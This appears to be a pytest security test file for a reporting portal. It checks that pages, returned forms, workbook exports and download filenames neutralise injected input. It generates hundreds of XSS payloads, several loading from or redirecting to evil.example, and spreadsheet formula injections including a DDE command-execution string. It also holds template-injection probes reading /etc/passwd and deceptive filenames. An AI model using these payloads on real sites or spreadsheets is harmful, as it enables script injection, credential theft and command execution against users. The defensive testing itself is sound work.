"""Words that try to be more than words: on pages, in workbooks, as names (SEC11, SEC17)."""

from datetime import date
from io import BytesIO
from itertools import product

import html5lib
import pytest
from openpyxl import load_workbook

from services.office import Office
from services.round_status import round_of
from services.tick import tick
from services.workbooks import Desk, export_round
from supervision.vocabulary import Role
from tests.builders import adopt_plan, an_item, change_item, item_of
from tests.clock import Clock
from tests.people import the_plan
from tests.portal.browser import Browser
from tests.portal.conftest import SignedIn
from tests.reporting import OPENS, hand_in

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=q></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<math><mi xlink:href='javascript:1'>x</mi></math>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data='data:text/html,<script>1</script>'></object>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "{{ 7*7 }}",
    "{% include '/etc/passwd' %}",
    "<textarea></textarea><script>1</script>",
    "<!--><script>1</script>-->",
    "<video><source onerror=alert(1)></video>",
    "<link rel=stylesheet href=//evil.example>",
    "<template><script>1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=1>'>",
    "<div hx-get='//evil.example' hx-trigger=load>",
    "<div data-hx-on:load='alert(1)'>",
]
WRAPS = [
    "{}", '"{}', "'>{}", "</textarea>{}", "</title>{}", '" autofocus x="{}', "\u2028{}", "]]>{}",
    "</dd>{}", "&lt;{}", "%3C{}", "</td></tr></table>{}",
]  # fmt: skip
PAYLOADS = [wrap.format(script) for script, wrap in product(SCRIPTS, WRAPS)]
ACTIVE = {"script", "iframe", "object", "embed", "base", "style", "svg", "math", "img", "video",
          "template", "frame", "applet"}  # fmt: skip
FORMULAS = [
    f"{before}{start}{rest}"
    for before, start, rest in product(
        ["", " ", "\t", "\r\n", "\u3000"],
        ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "|"],
        ["1+1", 'HYPERLINK("http://evil.example")', "cmd|' /C calc'!A0", "SUM(A1:A9)", '"; =1+1',
         "IMPORTXML(1)", "A1", "DDE()", "1;=2", "WEBSERVICE(1)"],
    )
]  # fmt: skip


def foreign_nodes(page: str, own: str) -> list[str]:
    """Return what a browser would act on in the page that is not in the page without the words."""
    return sorted(set(_active(page)) - set(_active(own)))


def _active(page: str) -> list[str]:
    found = []
    for element in html5lib.parse(page, namespaceHTMLElements=False).iter():
        name = str(element.tag).rpartition("}")[2]
        if name in ACTIVE:
            found.append(f"<{name} {sorted(element.attrib.items())}>")
        for attribute, value in element.attrib.items():
            plain = str(attribute).lower()
            is_script = str(value).strip().lower().startswith(("javascript:", "data:"))
            if (
                plain.startswith(("on", "hx-", "data-hx"))
                or is_script
                or "evil.example" in str(value)
            ):
                if plain != "value":
                    found.append(f"{name}[{plain}]")
    return found


def test_there_are_three_hundred_payloads_and_five_hundred_formulas() -> None:
    assert len(set(PAYLOADS)) == 300
    assert len(FORMULAS) == 500


@pytest.fixture
def reader(signed_in: SignedIn) -> Browser:
    return signed_in(Role.LIAISON, Role.HEAD)


@pytest.mark.parametrize("part", range(6))
def test_no_word_becomes_active_on_any_page(reader: Browser, reporting: Office, part: int) -> None:
    with reporting.reading() as session:
        item = f"/items/{item_of(session, 'T01').id}"
    paths = [item, f"{item}/report", f"{item}/evidence", f"{item}/extension", "/todo"]
    own = {path: reader.get(path).text for path in paths}

    for payload in PAYLOADS[part::6]:
        change_item(reporting, "T01", title=payload, content=payload, deadline_text=payload)
        hand_in(reporting, progress=payload, problems=payload, stage=payload)
        for path in paths if payload in PAYLOADS[::10] else paths[:2]:
            page = reader.get(path).text
            assert foreign_nodes(page, own[path]) == [], payload


def test_no_typed_word_becomes_active_when_a_form_comes_back(
    reader: Browser, reporting: Office
) -> None:
    with reporting.reading() as session:
        path = f"/items/{item_of(session, 'T01').id}/report"
    reader.get(path)
    own = reader.submit(path, progress="", percent="x").text
    fields = reader.form(path)

    for payload in PAYLOADS[::7]:
        page = reader.post(path, fields | {"progress": payload, "percent": payload}).text
        assert "faults" in page
        assert foreign_nodes(page, own) == [], payload


def test_no_reported_word_becomes_a_formula_in_a_workbook(office: Office, clock: Clock) -> None:
    clock.turn_to(OPENS)
    codes = [f"T{number:03}" for number in range(1, len(FORMULAS) // 2 + 1)]
    adopt_plan(office, *(an_item(code) for code in codes), baseline_on=date(2025, 1, 6))
    tick(office, today=OPENS)
    for code, first, second in zip(codes, FORMULAS[::2], FORMULAS[1::2], strict=True):
        hand_in(office, code, progress=first, problems=second)

    with office.reading() as session:
        plan = the_plan(session)
        desk = Desk(office=office, plan=plan, round=round_of(session, plan, None), as_of=OPENS)
        book = load_workbook(BytesIO(export_round(session, desk)))
    cells = [cell for sheet in book for row in sheet for cell in row]
    said = {str(cell.value).strip() for cell in cells}

    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert {formula.strip() for formula in FORMULAS} - said == set()


@pytest.mark.parametrize(
    "name",
    [
        "=1+1.pdf",
        "<img src=x onerror=1>.pdf",
        '";filename="x.html',
        "a\u202efdp.exe",
        "报告（一）.PDF.html",
    ],
)
def test_a_file_goes_out_under_a_name_that_leads_nowhere(
    reader: Browser, reporting: Office, name: str
) -> None:
    with reporting.reading() as session:
        path = f"/items/{item_of(session, 'T01').id}/evidence"
    reader.get(path)
    reader.submit(path, kind="ledger", file=(name, b"%PDF-1.7\n%%EOF\n"))
    links = [
        part.split('"')[0]
        for part in reader.page.split('href="')[1:]
        if part.startswith("/evidence/")
    ]

    assert links or "文件名不合规" in reader.page
    for link in links:
        headers = reader.get(link).headers
        assert headers["content-type"] == "application/octet-stream"
        disposition = headers["content-disposition"]
        assert disposition.startswith('attachment; filename="duban-')
        assert disposition.endswith(".pdf")
        assert not any(sign in disposition for sign in "<>\r\n")
